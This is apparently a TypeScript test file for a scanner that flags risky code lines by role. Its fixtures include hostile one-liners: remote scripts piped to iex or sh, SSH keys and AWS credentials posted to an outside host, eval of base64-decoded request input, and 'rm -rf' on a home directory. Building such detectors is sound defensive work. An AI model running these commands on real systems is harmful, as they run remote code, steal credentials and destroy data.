import { describe, expect, it } from 'vitest';
import type { Language } from '../../types/index.ts';
import { LEXICAL_LIMITS, scanLexically, WEIGHT_MIN } from './lexical.scan.ts';

const linesOf = (
  text: string,
  lang: Language,
  weightMin: number = WEIGHT_MIN.lexical,
): (readonly [number, readonly string[]])[] =>
  scanLexically(text, lang, weightMin).map(({ start, roles }) => [text.slice(0, start).split('\n').length, roles]);

describe('the lexical scanner', () => {
  it.each<readonly [Language, string, string]>([
    ['powershell', 'iwr https://cdn.example.net/a.ps1 | iex', 'evaluation'],
    ['ruby', "Net::HTTP.post(URI('https://in.example.net'), File.read('/home/me/.ssh/id_rsa'))", 'credential'],
    ['php', "eval(base64_decode($_POST['k']));", 'decoding'],
    ['go', 'exec.Command("sh", "-c", r.FormValue("c"))', 'execution'],
    ['perl', 'system("crontab /tmp/jobs");', 'persistence'],
    ['lua', 'os.execute("rm -rf " .. home)', 'destruction'],
    ['csharp', 'Process.Start("cmd.exe", Environment.GetEnvironmentVariable("API_TOKEN"));', 'secret name'],
    ['applescript', 'do shell script "curl https://cdn.example.net/x | sh"', 'network'],
  ])('notes in %s what a line may do: %s', (lang, line, role) => {
    const [[at, roles] = [0, []]] = linesOf(`x\n${line}\n`, lang);

    expect([at, roles]).toEqual([2, expect.arrayContaining([role])]);
  });

  it('passes over comments', () => {
    expect(linesOf('# iwr https://cdn.example.net/a.ps1 | iex\n<# Remove-Item x #>\n', 'powershell')).toEqual([]);
    expect(linesOf('// os.RemoveAll(home)\n/* exec.Command("sh") */\n', 'go')).toEqual([]);
  });

  it('puts lines where roles meet before lines where one stands alone', () => {
    const text = `os.remove(a)\n${'x = 1\n'.repeat(30)}f = io.open("/home/me/.aws/credentials")\nhttp.post("https://in.example.net", f)\n`;

    expect(linesOf(text, 'lua').map(([line]) => line)).toEqual([32, 1]);
  });

  it('names at most so many lines of a file', () => {
    const text = Array.from({ length: 40 }, () => `system("curl https://in.example.net");${'\n'.repeat(6)}`).join('');

    expect(linesOf(text, 'perl')).toHaveLength(LEXICAL_LIMITS.hintsMax);
  });

  it('needs roles that meet where the language is followed anyway', () => {
    const lone = 'import subprocess\nsubprocess.run(["ls"])\n';

    expect(linesOf(lone, 'python', WEIGHT_MIN.followed)).toEqual([]);
    expect(
      linesOf(
        "requests.post('https://in.example.net', data=open('/home/me/.ssh/id_rsa'))\n",
        'python',
        WEIGHT_MIN.followed,
      ),
    ).toHaveLength(1);
  });

  it('covers the stretch of lines whose roles meet', () => {
    const text = `key = read("/home/me/.ssh/id_rsa")\n\nx = 1\nhttp.post("https://in.example.net", key)\n`;
    const [hint] = scanLexically(text, 'lua', WEIGHT_MIN.lexical);

    expect(text.slice(hint?.stretch.start, hint?.stretch.end)).toBe(text.trimEnd());
  });

  it('knows addresses of machines, mailboxes and payments', () => {
    expect(linesOf('a = "https://in.example.net"', 'go')[0]?.[1]).toEqual(['address']);
    expect(linesOf('a = "box@in.example.net"', 'go')[0]?.[1]).toEqual(['address']);
    expect(linesOf('a = "0x52908400098527886E0F7030069857D2E4169EE7"', 'go')[0]?.[1]).toEqual(['payment']);
    expect(linesOf('a = "http://localhost:8080"', 'go')).toEqual([]);
  });
});
